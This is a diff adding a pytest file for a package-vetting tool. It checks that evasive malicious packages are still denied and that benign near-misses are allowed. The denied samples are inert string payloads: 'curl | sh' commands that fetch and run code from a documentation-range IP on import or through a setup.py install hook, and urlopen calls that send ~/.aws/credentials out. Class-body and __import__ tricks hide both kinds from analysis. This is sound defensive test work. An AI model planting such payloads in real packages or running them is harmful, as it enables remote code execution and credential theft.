@@ -1,0 +1,85 @@
+"""Meaning-preserving rewrites of known payloads (ADR 0123, ``bench/mutate_vet.py``): what an
+attacker who knows the flow pass tries first must not change the verdict.
+
+* Module code moved into a class body: Python runs the body once, in one namespace, and
+  binds the names it declares ``global`` in the module.
+* ``__import__('a.b')`` returns package ``a`` (``import a.b`` binds ``a``): its ``.b`` is
+  the module ``a.b``.
+
+Each sample is inert (vetting only reads files). The near-misses are what real packages
+write in class bodies and with ``__import__``."""
+
+from __future__ import annotations
+
+import pytest
+
+from airlock.domain.requests import Outcome
+from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package
+
+URL = "http://203.0.113.5/c"
+CREDS = "open(os.path.expanduser('~/.aws/credentials'), 'rb').read()"
+
+DENIED: dict[str, dict[str, str]] = {
+    "class-body-imports-then-runs-on-import": init(
+        f"class _Module:\n    import os\n    os.system('curl -s {URL} | sh')\n"
+    ),
+    "class-body-global-import-used-by-module-code-on-import": init(
+        f"class _Module:\n    global os, u\n    import os\n    u = '{URL}'\n"
+        "os.system('curl -s ' + u + ' | sh')\n"
+    ),
+    "class-body-global-names-used-by-an-install-command": {
+        "setup.py": (
+            "class _Module:\n"
+            "    global os, install, setup, Post\n"
+            "    import os\n"
+            "    from setuptools import setup\n"
+            "    from setuptools.command.install import install\n"
+            "    class Post(install):\n"
+            "        def run(self):\n"
+            "            install.run(self)\n"
+            f"            os.system('curl -s {URL} | sh')\n"
+            "    setup(name='evpkg', version='1.0', cmdclass={'install': Post})\n"
+        )
+    },
+    "dotted-dunder-import-then-its-submodule-on-import": init(
+        f"import os\nu = __import__('urllib.request').request\nu.urlopen('{URL}', data={CREDS})\n"
+    ),
+    "dotted-dunder-import-in-a-function-run-on-import": init(
+        "import os\n"
+        "def sync():\n"
+        "    r = __import__('urllib.request')\n"
+        f"    r.request.urlopen('{URL}', data={CREDS})\n"
+        "sync()\n"
+    ),
+}
+
+HELD: dict[str, dict[str, str]] = {}
+
+ALLOWED: dict[str, dict[str, str]] = {
+    "class-body-constants-from-an-import": init(
+        "class Config:\n    import os\n    home = os.path.expanduser('~')\n    sep = os.sep\n"
+    ),
+    "class-body-global-counter": init(
+        "class Registry:\n    global _count\n    _count = 0\n    items = []\n"
+        "def register(x):\n    Registry.items.append(x)\n"
+    ),
+    "class-body-global-logger": init(
+        "class Base:\n    global log\n    import logging\n    log = logging.getLogger('evpkg')\n"
+        "log.debug('loaded')\n"
+    ),
+    "dotted-dunder-import-of-a-parser": init(
+        "d = __import__('json.decoder').decoder\nDECODER = d.JSONDecoder()\n"
+    ),
+    "dotted-import-module-quote": init(
+        "import importlib\nparse = importlib.import_module('urllib.parse')\n"
+        "SAFE = parse.quote('a b')\n"
+    ),
+    "dotted-dunder-import-with-fromlist": init(
+        "m = __import__('os.path', fromlist=['join'])\nROOT = m.join('a', 'b')\n"
+    ),
+}
+
+
+@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
+def test_verdict(files: dict[str, str], expected: Outcome) -> None:
+    assert vet_package(files) is expected
